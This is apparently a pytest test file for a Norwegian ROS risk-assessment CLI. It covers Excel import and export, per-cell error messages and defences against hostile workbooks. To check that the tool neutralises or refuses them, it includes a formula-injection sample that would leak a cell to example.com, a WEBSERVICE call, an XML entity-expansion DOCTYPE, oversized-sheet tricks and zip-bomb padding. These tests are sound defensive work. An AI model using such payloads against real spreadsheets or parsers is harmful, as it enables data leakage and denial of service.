"""The classic ROS sheet: reading a hand-filled one, problems by cell, and the round trip."""

from __future__ import annotations

import os
import re
import zipfile
from collections.abc import Callable
from datetime import date, datetime
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from pycel import ExcelCompiler
from typer.testing import CliRunner

from ims_cli.analytics.risk import level_label
from ims_cli.analytics.units import by_id
from ims_cli.cli.app import app
from ims_cli.config import Config
from ims_cli.errors import UserError
from ims_cli.exchange.ros_records import prepare
from ims_cli.exchange.ros_sheet import SheetProblems, read_sheet, write_sheet_layout
from ims_cli.gitio.ids import next_free_id
from ims_cli.indexed import load_repository
from ims_cli.models.ros import Ros
from ims_cli.store.workbook import read_cells, write_sheet
from ims_cli.words import whole
from tests.conftest import PROJECT, MakeRepo, summary
from tests.excel_sheets import RISKS, classic_sheet, seed_sheet

runner = CliRunner()


def test_a_hand_filled_sheet_becomes_a_valid_ros(make_repo: MakeRepo, tmp_path: Path) -> None:
    root = make_repo()
    repo = load_repository(root)
    _, cells = read_cells(classic_sheet(tmp_path / "ros.xlsx"))
    imported = read_sheet(cells, repo.organisasjon, None, "tjenesteleveranse")
    prepared = prepare(repo, imported, None)
    record = prepared.record
    assert (record.id, record.enhet, record.ansvarlig) == ("ROS-2026-0002", "OPP-SOL", "liv.berg")
    assert record.dato == date(2026, 2, 14) and record.deltakere == ["ola.hansen", "liv.berg"]
    assert [r.id for r in record.risikoer] == ["R1", "R2", "R3"]  # the blank row is skipped
    first, second, third = record.risikoer
    assert [(t.id, t.ansvarlig, t.frist) for t in first.tiltak] == [
        ("T1", "liv.berg", date(2026, 6, 1)),
        ("T2", "liv.berg", date(2026, 9, 1)),
    ]
    assert (second.sannsynlighet, second.konsekvens, second.avvik) == (3, 4, ["AVV-2026-0100"])
    assert second.restrisiko is not None and second.restrisiko.score == 6
    assert third.tiltak == [] and third.restrisiko is None
    assert imported.warnings == [
        "I10: bare avvik-id-er (AVV-…) tas med fra «Overført avvikssystem»; «Nei» er hoppet over"
    ]


@pytest.mark.parametrize(
    ("change", "problem"),
    [
        ({"row": 0, "column": 3, "value": "høy"}, "D10: S «høy» er ikke et tall"),
        ({"row": 0, "column": 4, "value": "2,5"}, "E10: K «2,5» må være et helt tall"),
        ({"row": 3, "column": 2, "value": None}, "C13: trusselbeskrivelse mangler"),
        ({"row": 2, "column": 9, "value": None}, "J12: restrisiko trenger både S og K"),
    ],
)
def test_problems_name_their_cell(
    change: dict[str, Any], problem: str, make_repo: MakeRepo, tmp_path: Path
) -> None:
    rows = [list(r) for r in RISKS]
    rows[change["row"]][change["column"]] = change["value"]
    repo = load_repository(make_repo())
    _, cells = read_cells(classic_sheet(tmp_path / "ros.xlsx", rows))
    with pytest.raises(SheetProblems) as caught:
        read_sheet(cells, repo.organisasjon, "OPP-SOL", "hms")
    assert any(p.startswith(problem) for p in caught.value.problems), caught.value.problems


def test_a_real_excel_date_cell(make_repo: MakeRepo, tmp_path: Path) -> None:
    repo = load_repository(make_repo())
    sheet = classic_sheet(tmp_path / "ros.xlsx", dato=datetime(2026, 3, 5))
    _, cells = read_cells(sheet)
    assert read_sheet(cells, repo.organisasjon, None, "hms").data["dato"] == date(2026, 3, 5)


def test_unknown_person_in_the_header(make_repo: MakeRepo, tmp_path: Path) -> None:
    repo = load_repository(make_repo())
    _, cells = read_cells(classic_sheet(tmp_path / "ros.xlsx", ansvarlig="Nils Nilsen"))
    with pytest.raises(SheetProblems) as caught:
        read_sheet(cells, repo.organisasjon, "OPP-SOL", "hms")
    assert caught.value.problems == [
        "C4: fant ingen person «Nils Nilsen» i records/organisasjon.yaml; skriv navnet eller "
        "id-en slik den står der"
    ]


def test_next_free_id_per_year(make_repo: MakeRepo) -> None:
    repo = load_repository(make_repo())
    assert next_free_id(repo, "ROS", 2026) == "ROS-2026-0002"
    assert next_free_id(repo, "ROS", 2027) == "ROS-2027-0001"


def _strip(value: Any) -> Any:
    if isinstance(value, dict):
        return {k: _strip(v) for k, v in value.items()}
    if isinstance(value, list):
        return [_strip(v) for v in value]
    return value.strip() if isinstance(value, str) else value


EXAMPLE = load_repository(PROJECT)
EXAMPLE_ROS = [r.record for r in EXAMPLE.records if isinstance(r.record, Ros)]


@pytest.mark.parametrize("ros", EXAMPLE_ROS, ids=lambda r: r.id)
def test_export_then_import_keeps_every_risk_score_and_tiltak(ros: Ros, tmp_path: Path) -> None:
    path = tmp_path / "ros.xlsx"
    units = by_id(EXAMPLE.organisasjon)
    write_sheet(path, *write_sheet_layout(ros, EXAMPLE.organisasjon, units, EXAMPLE.config))
    _, cells = read_cells(path)
    imported = read_sheet(cells, EXAMPLE.organisasjon, None, None)
    assert imported.warnings == []
    again = Ros.model_validate({**imported.data, "id": ros.id})
    original = _strip(ros.model_dump(exclude={"beskrivelse", "risikogruppe", "neste_evaluering"}))
    assert _strip(
        again.model_dump(exclude={"beskrivelse", "risikogruppe", "neste_evaluering"})
    ) == (original)


def test_cli_import_writes_a_record_that_validates(make_repo: MakeRepo, tmp_path: Path) -> None:
    root = make_repo()
    sheet = classic_sheet(tmp_path / "ros.xlsx")
    args = ["--repo", str(root), "import", "ros", str(sheet), "--omrade", "hms"]
    result = runner.invoke(app, args)
    assert result.exit_code == 0, result.output
    assert result.output == "Skrev records/ros/OPP/ROS-2026-0002.yaml (ROS-2026-0002, 3 risikoer)\n"
    assert summary(root) == []
    again = runner.invoke(app, [*args, "--id", "ROS-2026-0002"])  # that ROS, from the same sheet
    assert (again.exit_code, again.output) == (
        0,
        "records/ros/OPP/ROS-2026-0002.yaml: skjemaet gir ingen endringer i ROS-2026-0002\n",
    )


def test_cli_import_reports_cells_and_writes_nothing(make_repo: MakeRepo, tmp_path: Path) -> None:
    root = make_repo()
    rows = [list(r) for r in RISKS]
    rows[0][3] = "høy"
    sheet = classic_sheet(tmp_path / "ros.xlsx", rows)
    result = runner.invoke(
        app, ["--repo", str(root), "import", "ros", str(sheet), "--omrade", "hms"]
    )
    assert result.exit_code == 2
    assert f"{sheet}!D10: S «høy» er ikke et tall" in result.output
    assert "ingenting er skrevet" in result.output
    assert not (root / "records" / "ros" / "OPP").exists()


def test_cli_export(tmp_path: Path) -> None:
    path = tmp_path / "ros.xlsx"
    result = runner.invoke(
        app, ["--repo", str(PROJECT), "export", "ros", "ROS-2026-0002", "--xlsx", str(path)]
    )
    assert result.exit_code == 0
    assert result.output == f"Skrev {path} (6 risikoer)\n"
    _, cells = read_cells(path)
    assert cells["C9"].startswith("Ansatt utsettes for vold")
    assert cells["I9"] == (
        "Tor Moen (tor.moen), 31.08.2026, fullført 25.08.2026\n"
        "Kristin Lie (kristin.lie), 31.12.2026, pågår"
    )


def _sheet(tmp_path: Path, config: Config) -> Path:
    ros = next(r for r in EXAMPLE_ROS if r.id == "ROS-2026-0002")
    path = tmp_path / "ros.xlsx"
    write_sheet(path, *write_sheet_layout(ros, EXAMPLE.organisasjon, {}, config))
    return path


CELL_TABLE = [
    ["lav", "lav", "lav", "middels", "middels"],
    ["lav", "lav", "middels", "middels", "hoy"],
    ["lav", "middels", "middels", "hoy", "hoy"],
    ["lav", "middels", "hoy", "hoy", "hoy"],
    ["middels", "middels", "hoy", "hoy", "hoy"],
]


@pytest.mark.parametrize("cells", [None, CELL_TABLE], ids=["produkt", "celletabell"])
def test_the_sheet_computes_r_and_the_level_the_matrix_gives(
    cells: list[list[str]] | None, tmp_path: Path
) -> None:
    config = Config.model_validate({"risiko": {"celler": cells}} if cells else {})
    sheet = ExcelCompiler(filename=str(_sheet(tmp_path, config)))
    row = 9 + 6  # the first spare row below the six risks
    assert sheet.evaluate(f"ROS-2026-0002!F{row}") == ""  # nothing until S and K are filled in
    for s in range(1, 6):
        for k in range(1, 6):
            sheet.set_value(f"ROS-2026-0002!D{row}", s)
            sheet.set_value(f"ROS-2026-0002!E{row}", k)
            computed = sheet.evaluate(f"ROS-2026-0002!F{row}")
            level = sheet.evaluate(f"ROS-2026-0002!G{row}")
            assert (computed, level) == (s * k, level_label(config.risiko.cell_level(s, k)))
    # restrisiko has its own R and level from its S and K
    assert (sheet.evaluate("ROS-2026-0002!M9"), sheet.evaluate("ROS-2026-0002!N9")) == (
        8,
        "middels",
    )


def test_only_the_inputs_are_open_and_the_scales_are_drop_downs(tmp_path: Path) -> None:
    book = load_workbook(_sheet(tmp_path, Config()))
    sheet = book["ROS-2026-0002"]
    assert sheet.protection.sheet and sheet.freeze_panes == "D9"
    open_cells = {c for c in ("A9", "C9", "D9", "E9", "H9", "K9", "L9", "V9", "C29", "B2", "I4")}
    locked = {"F9", "G9", "M9", "N9", "F29", "A7", "C7", "A2"}
    assert all(not sheet[c].protection.locked for c in open_cells)
    assert all(sheet[c].protection.locked for c in locked)
    assert sheet["C9"].fill.fgColor.rgb == "00FFFFFF" and sheet["F9"].fill.fgColor.rgb == "00F2F2F2"
    drop_downs = {str(v.sqref): v.formula1 for v in sheet.data_validations.dataValidation}
    assert drop_downs["D9:D29 K9:K29"] == drop_downs["E9:E29 L9:L29"] == '"1,2,3,4,5"'
    assert drop_downs["I4"] == '"åpen,intern,fortrolig,strengt fortrolig"'
    colours = {
        rule.formula[0]: rule.dxf.fill.fgColor.rgb
        for ranges in sheet.conditional_formatting
        for rule in ranges.rules
        if str(ranges.sqref) == "F9:G29"
    }
    assert colours == {
        '$G9="lav"': "00C6EFCE",
        '$G9="middels"': "00FFEB9C",
        '$G9="høy"': "00FFC7CE",
    }
    guide = [c for row in book["Veiledning"].iter_rows(values_only=True) for c in row if c]
    assert (
        "når R er over 10, eller når risikoen er et lovbrudd (Lovbrudd = ja). Da må risikoen ha "
        "minst ett tiltak." in guide
    )
    assert "Svært alvorlig" in guide and "15 høy" in guide


def test_a_missing_sheet_is_named_in_norwegian(tmp_path: Path) -> None:
    missing = tmp_path / "ros.xlsx"
    with pytest.raises(UserError, match=r"ros\.xlsx: filen finnes ikke"):
        read_cells(missing)


def test_the_seed_layout_with_tiltak_ansvarlig_and_frist_in_one_column(
    make_repo: MakeRepo, tmp_path: Path
) -> None:
    root = make_repo()
    repo = load_repository(root)
    _, cells = read_cells(seed_sheet(tmp_path / "seed.xlsx"))
    imported = read_sheet(cells, repo.organisasjon, None, "tjenesteleveranse")
    record = prepare(repo, imported, None).record
    assert record.ansvarlig == "liv.berg"  # «Liv Berg, styrer»: name and function
    first, second = record.risikoer
    assert [(t.id, t.beskrivelse, t.ansvarlig, t.frist) for t in first.tiltak] == [
        ("T1", "Oppdatere hentelister", "liv.berg", date(2026, 6, 1)),
        ("T2", "Rutine på personalmøte", "ola.hansen", date(2026, 9, 1)),
    ]
    assert second.tiltak == []


def test_a_seed_tiltak_line_without_ansvarlig_and_frist_names_its_cell(
    make_repo: MakeRepo, tmp_path: Path
) -> None:
    repo = load_repository(make_repo())
    _, cells = read_cells(seed_sheet(tmp_path / "seed.xlsx"))
    cells["G8"] = "Gjerde rundt sandkassen"
    with pytest.raises(SheetProblems) as raised:
        read_sheet(cells, repo.organisasjon, None, "tjenesteleveranse")
    assert raised.value.problems == [
        "G8: «Gjerde rundt sandkassen»: skriv «tiltak – ansvarlig – frist», for eksempel "
        "«Oppdatere hentelister – Liv Berg – 01.06.2026»"
    ]


def test_a_national_id_leaves_in_the_sheet_masked() -> None:
    ros = next(r for r in EXAMPLE_ROS if r.id == "ROS-2026-0002")
    leaked = ros.model_copy(
        update={"risikoer": [ros.risikoer[0].model_copy(update={"trussel": "Gjelder 01019000083"})]}
    )
    (layout, _) = write_sheet_layout(leaked, EXAMPLE.organisasjon, {}, Config())
    assert layout.values["C9"] == "Gjelder 010190*****"


@pytest.mark.parametrize(
    ("name", "content"),
    [("tekst.xlsx", b"ikke en arbeidsbok\n"), ("gammel.xls", b""), ("zip.xlsx", None)],
)
def test_a_file_that_is_no_workbook_is_said_so_in_norwegian(
    tmp_path: Path, name: str, content: bytes | None
) -> None:
    path = tmp_path / name
    if content is None:  # a zip archive, but not a workbook
        with zipfile.ZipFile(path, "w") as archive:
            archive.writestr("a.txt", "x")
    else:
        path.write_bytes(content)
    with pytest.raises(UserError) as raised:
        read_cells(path)
    assert str(raised.value) == (
        f"{path}: er ikke en Excel-arbeidsbok ims kan lese; åpne den i Excel og lagre den som "
        "«Excel-arbeidsbok (.xlsx)»"
    )


def test_a_folder_or_nothing_is_no_workbook(tmp_path: Path) -> None:
    for path, said in (
        (tmp_path, "filen er en mappe, ikke en vanlig fil; pek på arbeidsboken (.xlsx)"),
        (tmp_path / "x.xlsx", "filen finnes ikke"),
    ):
        with pytest.raises(UserError) as raised:
            read_cells(path)
        assert str(raised.value) == f"{path}: {said}"


FORMULAS = ('=HYPERLINK("http://example.com/?d="&B2,"klikk")', '=WEBSERVICE("http://x.example")')


def test_text_that_looks_like_a_formula_stays_text_through_export_import_export(
    tmp_path: Path,
) -> None:
    """A threat written `=HYPERLINK(…)` is text in the record, text in the sheet (a string cell
    with Excel's quote prefix, so not even editing the cell makes it live), text when imported,
    and text again in the next export; ims's own formulas (R and the level) stay formulas."""
    ros = next(r for r in EXAMPLE_ROS if r.id == "ROS-2026-0002")
    first, second = ros.risikoer[0], ros.risikoer[1]
    risks = [
        first.model_copy(update={"trussel": FORMULAS[0], "aspekt": FORMULAS[1]}),
        second.model_copy(update={"trussel": "+47 22 33 44 55", "eksisterende_tiltak": "@team"}),
    ]
    hostile = ros.model_copy(update={"risikoer": risks})
    path = tmp_path / "ros.xlsx"
    units = by_id(EXAMPLE.organisasjon)
    for _ in ("export", "again"):
        write_sheet(path, *write_sheet_layout(hostile, EXAMPLE.organisasjon, units, EXAMPLE.config))
        sheet = load_workbook(path).worksheets[0]
        for address, value in (
            ("C9", FORMULAS[0]),
            ("B9", FORMULAS[1]),
            ("C10", "+47 22 33 44 55"),
            ("S10", "@team"),
        ):
            cell = sheet[address]
            assert (cell.value, cell.data_type, cell.quotePrefix) == (value, "s", True), address
        assert sheet["F9"].data_type == "f" and sheet["F9"].value.startswith("=IF(")
        _, cells = read_cells(path)
        imported = read_sheet(cells, EXAMPLE.organisasjon, None, None)
        hostile = Ros.model_validate({**imported.data, "id": ros.id})
        assert hostile.risikoer[0].trussel == FORMULAS[0]


def _altered(sheet: Path, part: str, change: Callable[[bytes], bytes]) -> Path:
    """The workbook with one of its XML parts changed, as a hostile file would have it."""
    altered = sheet.with_name("endret.xlsx")
    with zipfile.ZipFile(sheet) as source, zipfile.ZipFile(altered, "w") as target:
        for item in source.infolist():
            data = source.read(item.filename)
            target.writestr(item, change(data) if item.filename == part else data)
    return altered


def _doctype(data: bytes) -> bytes:
    declaration = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
    end = data.index(b"?>") + 2 if data.startswith(b"<?xml") else 0
    return data[:end] + declaration + data[end:]


SHEET = "xl/worksheets/sheet1.xml"


@pytest.mark.parametrize(
    ("part", "change", "said"),
    [
        (SHEET, _doctype, f"{SHEET} har en DOCTYPE"),
        ("xl/workbook.xml", _doctype, "xl/workbook.xml har en DOCTYPE"),
        (
            SHEET,
            lambda d: d.replace(
                b"</sheetData>",
                b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>',
            ),
            "arket spenner over 1\u00a0048\u00a0576 rader og 16\u00a0384 kolonner",
        ),
        (
            SHEET,
            lambda d: re.sub(b'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD1048576"', d),
            "arket spenner over 1\u00a0048\u00a0576 rader og 16\u00a0384 kolonner",
        ),
        (
            SHEET,
            lambda d: d.replace(
                b"</mergeCells>", b'<mergeCell ref="A30:XFD1048576"/></mergeCells>'
            ),
            f"celler; ims leser høyst {whole(1_000_000)}",
        ),
    ],
    ids=["doctype-sheet", "doctype-workbook", "far-cell", "dimension", "merge"],
)
def test_a_hostile_workbook_is_refused_before_it_is_read(
    tmp_path: Path, part: str, change: Callable[[bytes], bytes], said: str
) -> None:
    """A DOCTYPE (entities that grow, files fetched) and a sheet or merge as large as Excel
    allows (openpyxl made every cell: MemoryError after 45 s) are refused from the XML alone."""
    sheet = _altered(classic_sheet(tmp_path / "ros.xlsx"), part, change)
    with pytest.raises(UserError) as raised:
        read_cells(sheet)
    assert str(raised.value).startswith(f"{sheet}: ")
    assert said in str(raised.value)


def test_a_workbook_that_unpacks_to_more_than_ims_reads_is_refused(tmp_path: Path) -> None:
    padding = b"<!--" + b" " * (120 * 1024 * 1024) + b"-->"
    sheet = _altered(
        classic_sheet(tmp_path / "ros.xlsx"),
        SHEET,
        lambda d: d.replace(b"<sheetData>", padding + b"<sheetData>", 1),
    )
    with pytest.raises(UserError) as raised:
        read_cells(sheet)
    assert "pakket ut" in str(raised.value)


@pytest.mark.parametrize("kind", ["fifo", "device"])
def test_import_of_a_special_file_says_what_it_is(
    make_repo: MakeRepo, tmp_path: Path, kind: str
) -> None:
    if kind == "fifo":
        path = tmp_path / "ros.xlsx"
        os.mkfifo(path)  # nobody writes to it: reading it would wait for ever
        said = "filen er en spesialfil (en FIFO), ikke en vanlig fil; pek på arbeidsboken (.xlsx)"
    else:
        path = Path("/dev/zero")
        said = (
            "filen er en spesialfil (en enhet, som /dev/zero), ikke en vanlig fil; pek på "
            "arbeidsboken (.xlsx)"
        )
    args = ["--repo", str(make_repo()), "import", "ros", str(path), "--omrade", "hms"]
    result = runner.invoke(app, args)
    assert (result.exit_code, result.output) == (2, f"ims: {path}: {said}\n")
